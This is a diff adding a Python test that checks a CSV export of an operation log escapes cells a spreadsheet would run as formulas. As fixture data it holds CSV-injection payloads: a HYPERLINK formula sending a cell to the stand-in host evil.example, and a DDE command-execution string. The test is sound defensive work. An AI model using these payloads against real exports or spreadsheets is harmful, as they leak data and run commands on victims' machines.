@@ -146,6 +146,38 @@ def test_export_needs_the_permission_and_keeps_the_filters(
     assert root.get(EXPORT, {"format": "xml"}).status_code == 400
 
 
+def test_csv_export_quotes_cells_a_spreadsheet_would_run_as_formulas(make_user: Callable[..., Any]) -> None:
+    """A cell that starts with =, +, - or @ gets a leading apostrophe in the CSV (a spreadsheet shows it as text
+    instead of running it); a plain text and a negative number are left alone, and the JSON export is not altered."""
+    mallory = make_user("@mallory")  # a legal username a spreadsheet would read as a function call
+    reasons = {
+        '=HYPERLINK("http://evil.example/?x="&A1,"details")': True,
+        "+SUM(1,2)": True,
+        "-2+3+cmd|' /C calc'!A0": True,
+        "@SUM(1,1)": True,
+        "-5": False,  # a number, not a formula
+        "the branch was wrong": False,
+    }
+    rows = {
+        OpLog.objects.create(
+            op="memory.report", actor_kind="user", actor_user=mallory, actor_name="@mallory", reason=reason,
+            target_kind="memory", target_id=1, detail={"note": reason},
+        ).pk: reason
+        for reason in reasons
+    }  # fmt: skip
+    root = staff_client(make_user, "root", admin=True)
+    table = {
+        int(r["id"]): r for r in csv.DictReader(io.StringIO(streamed(root.get(EXPORT, {"format": "csv"})).decode()))
+    }
+    for pk, reason in rows.items():
+        expected = "'" + reason if reasons[reason] else reason
+        assert table[pk]["reason"] == expected, (reason, table[pk]["reason"])
+        assert table[pk]["actor"] == "'@mallory"
+        assert json.loads(table[pk]["detail"]) == {"note": reason}  # a JSON cell starts with "{": left as it is
+    document = json.loads(streamed(root.get(EXPORT, {"format": "json"})))
+    assert {r["id"]: r["reason"] for r in document["rows"] if r["id"] in rows} == rows  # JSON carries the text as is
+
+
 def test_export_streams_every_page(alice: Any, make_user: Callable[..., Any]) -> None:
     """More rows than one page of the stream (500): all of them, newest first, none twice."""
     from palace.oplog import export as oplog_export
